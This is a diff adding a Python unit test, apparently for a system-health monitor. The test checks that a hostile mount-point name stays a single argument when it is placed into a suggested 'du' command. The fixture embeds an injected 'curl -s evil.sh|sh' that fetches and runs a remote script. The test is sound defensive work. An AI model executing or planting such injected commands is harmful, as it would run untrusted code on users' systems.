@@ -448,6 +448,17 @@ def test_disk_memory_and_sustained_cpu(store):
     assert system.system_rules(store, conf, "other", NOW, calm).findings == []
 
 
+def test_a_mount_point_is_quoted_in_the_suggested_command(store):
+    """A volume's label names its mount point: a hostile one stays one argument of du."""
+    import shlex
+
+    mount = "/media/alice/x;curl -s evil.sh|sh;#"
+    probe = Stub(disks=[system.Disk(mount, 100 * 2**30, 1 * 2**30)], mem=system.Memory(40.0, 1, 2), cpu=None)
+    (f,) = system.system_rules(store, Config(components=(Component("api"),)), "h", NOW, probe).findings
+    first = f.action.split(" | ")[0]
+    assert shlex.split(first) == ["du", "-xh", mount, "--max-depth=2"]
+
+
 # -- scoring ----------------------------------------------------------------------------------------
 
 
